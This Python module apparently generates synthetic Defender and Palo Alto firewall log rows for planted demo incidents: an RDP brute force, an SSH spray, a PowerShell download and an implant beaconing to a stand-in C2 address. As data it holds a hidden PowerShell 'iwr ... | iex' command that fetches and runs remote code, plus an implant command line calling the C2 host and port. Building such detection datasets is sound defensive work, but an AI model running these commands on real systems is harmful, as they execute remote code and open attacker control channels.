"""The planted incidents as Defender for Endpoint and the perimeter firewall saw them.

DeviceNetworkEvents (Defender on the hosts): WKSTN-042 accepting the RDP brute
force from 203.0.113.77 (one InboundConnectionAccepted per attempt, then bob's
session) and PowerShell fetching the payload from 192.0.2.66:80; LNX-WEB01 accepting
the SSH spray from 198.51.100.23 and its implant `/tmp/.cache/kworkerd` (run as
deploy) connecting to 192.0.2.66:4444 once per beacon interval; plus a few everyday
connections of both hosts. CommonSecurityLog (a PAN-OS edge firewall through a CEF
forwarder): the same inbound attempts to the hosts' public NAT addresses and the
beacon leaving through NAT, with byte counts. The rows depend only on the
generation time (the same anchors as the other planted incidents).

Example:
    >>> import pandas as pd
    >>> a = {"rdp": pd.Timestamp("2026-01-09T06:00:00Z"),
    ...      "ssh": pd.Timestamp("2026-01-09T16:00:00Z")}
    >>> t = devicenet_incident(a, pd.Timestamp("2026-01-10T12:00:00Z"))
    >>> d = t["DeviceNetworkEvents"]
    >>> int(((d["RemoteIP"] == "203.0.113.77") & (d["LocalPort"] == 3389)).sum())
    324
"""

from __future__ import annotations

import numpy as np
import pandas as pd

from nbcatalog.data.demo.estate import (
    ATTACKER_RDP_IP,
    ATTACKER_SSH_IP,
    C2_IP,
    C2_PORT,
    HOSTS_BY_NAME,
    MALICIOUS_URL,
    TENANT_ID,
)
from nbcatalog.data.demo.planted_linux import SPRAY_MINUTES
from nbcatalog.data.demo.planted_network import beacon_times
from nbcatalog.data.demo.planted_windows import BRUTE_MINUTES

RDP_ATTEMPTS, RDP_SESSION = 320, 4  # as the NSG flows count them
SSH_ATTEMPTS = 240
FIREWALL = ("Palo Alto Networks", "PAN-OS", "10.2.7", "PA-EDGE01", "cef-fwd01.contoso.com")
_DEVICE_IDS = {
    "WKSTN-042": "4f1c9a2e7b3d5c6e8a0b1c2d3e4f5a6b7c8d9e0f",
    "LNX-WEB01": "a7e3c1b9d5f2e4a6c8b0d1e3f5a7c9b1d3e5f7a9",
}


def _spread(start: pd.Timestamp, minutes: float, n: int) -> pd.DatetimeIndex:
    """`n` times evenly over `minutes` from `start`, to the second."""
    offsets = np.linspace(0, minutes * 60, n, endpoint=False).round()
    return (start + pd.to_timedelta(offsets, unit="s")).round("s")


def _device_rows(times, host: str, action: str, remote: str, remote_port, local_port, **p):
    h = HOSTS_BY_NAME[host]
    n = len(times)
    times = pd.DatetimeIndex(times)
    return pd.DataFrame(
        {
            "TenantId": TENANT_ID,
            "TimeGenerated": times + pd.Timedelta(seconds=40),
            "Timestamp": times,
            "DeviceId": _DEVICE_IDS[host],
            "DeviceName": f"{host.lower()}.contoso.com",
            "ActionType": action,
            "RemoteIP": remote,
            "RemotePort": np.broadcast_to(np.asarray(remote_port), (n,)).astype("int64"),
            "RemoteUrl": p.get("url"),
            "LocalIP": h.ip,
            "LocalPort": np.broadcast_to(np.asarray(local_port), (n,)).astype("int64"),
            "Protocol": "Tcp",
            "LocalIPType": "Private",
            "RemoteIPType": p.get("remote_type", "Public"),
            "InitiatingProcessFileName": p["process"],
            "InitiatingProcessFolderPath": p["path"],
            "InitiatingProcessCommandLine": p.get("command", p["process"]),
            "InitiatingProcessAccountDomain": p.get("domain", h.name.lower()),
            "InitiatingProcessAccountName": p["account"],
            "InitiatingProcessId": p.get("pid", 4120),
            "ReportId": np.arange(n, dtype="int64") + p.get("report", 1000),
            "SourceSystem": "",
            "Type": "DeviceNetworkEvents",
        }
    )


def _firewall_rows(times, src, src_port, dest, dest_port, **p) -> pd.DataFrame:
    vendor, product, version, device, forwarder = FIREWALL
    n = len(times)
    times = pd.DatetimeIndex(times)
    inbound = p.get("inbound", True)
    return pd.DataFrame(
        {
            "TenantId": TENANT_ID,
            "TimeGenerated": times + pd.Timedelta(seconds=5),
            "SourceSystem": "OpsManager",
            "DeviceVendor": vendor,
            "DeviceProduct": product,
            "DeviceVersion": version,
            "DeviceEventClassID": "end",
            "Activity": "TRAFFIC",
            "LogSeverity": "1",
            "DeviceAction": "allow",
            "SimplifiedDeviceAction": "Allow",
            "ApplicationProtocol": p["app"],
            "EventCount": 1,
            "CommunicationDirection": "Inbound" if inbound else "Outbound",
            "DeviceName": device,
            "Computer": forwarder,
            "SourceIP": src,
            "SourcePort": np.broadcast_to(np.asarray(src_port), (n,)).astype("int64"),
            "SourceTranslatedAddress": p.get("src_nat"),
            "DestinationIP": dest,
            "DestinationPort": dest_port,
            "DestinationTranslatedAddress": p.get("dest_nat"),
            "DestinationTranslatedPort": dest_port if p.get("dest_nat") else None,
            "Protocol": "TCP",
            "SentBytes": np.int64(p["sent"]),
            "ReceivedBytes": np.int64(p["received"]),
            "StartTime": times,
            "EndTime": times + pd.Timedelta(seconds=p.get("seconds", 2)),
            "DeviceInboundInterface": "ethernet1/1" if inbound else "ethernet1/2",
            "DeviceOutboundInterface": "ethernet1/2" if inbound else "ethernet1/1",
            "AdditionalExtensions": p.get("extensions", "PanOSRuleName=allow-published"),
        }
    )


def devicenet_incident(anchors: dict[str, pd.Timestamp], end: pd.Timestamp) -> dict:
    """DeviceNetworkEvents and CommonSecurityLog rows of the planted incidents."""
    rdp, ssh = anchors["rdp"], anchors["ssh"]
    ws, web = HOSTS_BY_NAME["WKSTN-042"], HOSTS_BY_NAME["LNX-WEB01"]
    brute = _spread(rdp, BRUTE_MINUTES, RDP_ATTEMPTS)
    session = _spread(rdp + pd.Timedelta(minutes=BRUTE_MINUTES + 1), 30, RDP_SESSION)
    spray = _spread(ssh, SPRAY_MINUTES, SSH_ATTEMPTS)
    beacons = beacon_times(ssh, end) + pd.Timedelta(seconds=37)
    fetch = [(rdp + pd.Timedelta(minutes=BRUTE_MINUTES + 9))]
    rdp_times = brute.append(session)
    ephemeral = 49152 + np.arange(len(rdp_times)) % 16000
    svchost = {
        "process": "svchost.exe",
        "path": "c:\\windows\\system32\\svchost.exe",
        "command": "svchost.exe -k NetworkService -s TermService",
        "account": "network service",
        "domain": "nt authority",
        "pid": 1180,
    }
    everyday = _everyday(rdp, end)
    device = pd.concat(
        [
            _device_rows(
                rdp_times,
                ws.name,
                "InboundConnectionAccepted",
                ATTACKER_RDP_IP,
                ephemeral,
                3389,
                **svchost,
            ),
            _device_rows(
                fetch,
                ws.name,
                "ConnectionSuccess",
                C2_IP,
                80,
                50112,
                url=MALICIOUS_URL,
                process="powershell.exe",
                path="c:\\windows\\system32\\windowspowershell\\v1.0\\powershell.exe",
                command=f"powershell.exe -nop -w hidden -c iwr {MALICIOUS_URL} | iex",
                account="bob",
                domain="contoso",
                pid=6604,
                report=5000,
            ),
            _device_rows(
                spray,
                web.name,
                "InboundConnectionAccepted",
                ATTACKER_SSH_IP,
                40000 + np.arange(len(spray)),
                22,
                process="sshd",
                path="/usr/sbin/sshd",
                command="sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups",
                account="root",
                pid=812,
                report=6000,
            ),
            _device_rows(
                beacons,
                web.name,
                "ConnectionSuccess",
                C2_IP,
                C2_PORT,
                33000 + np.arange(len(beacons)) % 28000,
                process="kworkerd",
                path="/tmp/.cache/kworkerd",
                command=f"/tmp/.cache/kworkerd -c {C2_IP}:{C2_PORT}",
                account="deploy",
                pid=28812,
                report=7000,
            ),
            *everyday,
        ],
        ignore_index=True,
    )
    firewall = pd.concat(
        [
            _firewall_rows(
                rdp_times,
                ATTACKER_RDP_IP,
                ephemeral,
                ws.public_ip,
                3389,
                app="ms-rdp",
                dest_nat=ws.ip,
                sent=1_900,
                received=3_400,
            ),
            _firewall_rows(
                spray,
                ATTACKER_SSH_IP,
                40000 + np.arange(len(spray)),
                web.public_ip,
                22,
                app="ssh",
                dest_nat=web.ip,
                sent=2_600,
                received=3_100,
            ),
            _firewall_rows(
                beacons,
                web.ip,
                33000 + np.arange(len(beacons)) % 28000,
                C2_IP,
                C2_PORT,
                app="unknown-tcp",
                src_nat=web.public_ip,
                inbound=False,
                sent=1_080,
                received=360,
                extensions="PanOSRuleName=allow-outbound",
            ),
        ],
        ignore_index=True,
    )
    return {"DeviceNetworkEvents": device, "CommonSecurityLog": firewall}


def _everyday(rdp: pd.Timestamp, end: pd.Timestamp) -> list[pd.DataFrame]:
    """Ordinary connections of the two hosts: the database, the DC, web browsing."""
    rng = np.random.default_rng(20260110)  # fixed: planted rows never follow the seed
    ws, web = HOSTS_BY_NAME["WKSTN-042"], HOSTS_BY_NAME["LNX-WEB01"]
    dc = HOSTS_BY_NAME["WIN-DC01"].ip
    db = HOSTS_BY_NAME["LNX-DB01"].ip
    span = (end - pd.Timedelta(days=6) - rdp).total_seconds()
    start = rdp + pd.Timedelta(seconds=span)

    def times(n: int) -> pd.DatetimeIndex:
        offsets = np.sort(rng.uniform(0, (end - start).total_seconds() - 3600, n)).round()
        return start + pd.to_timedelta(offsets, unit="s")

    return [
        _device_rows(
            times(120),
            web.name,
            "ConnectionSuccess",
            db,
            5432,
            41000 + np.arange(120),
            remote_type="Private",
            process="php-fpm8.1",
            path="/usr/sbin/php-fpm8.1",
            account="www-data",
            pid=1310,
            report=10_000,
        ),
        _device_rows(
            times(60),
            ws.name,
            "ConnectionSuccess",
            dc,
            88,
            52000 + np.arange(60),
            remote_type="Private",
            process="lsass.exe",
            path="c:\\windows\\system32\\lsass.exe",
            account="system",
            domain="nt authority",
            pid=704,
            report=11_000,
        ),
        _device_rows(
            times(80),
            ws.name,
            "ConnectionSuccess",
            "13.107.42.14",
            443,
            53000 + np.arange(80),
            url="https://www.office.com",
            process="msedge.exe",
            path="c:\\program files (x86)\\microsoft\\edge\\application\\msedge.exe",
            account="bob",
            domain="contoso",
            pid=7344,
            report=12_000,
        ),
    ]
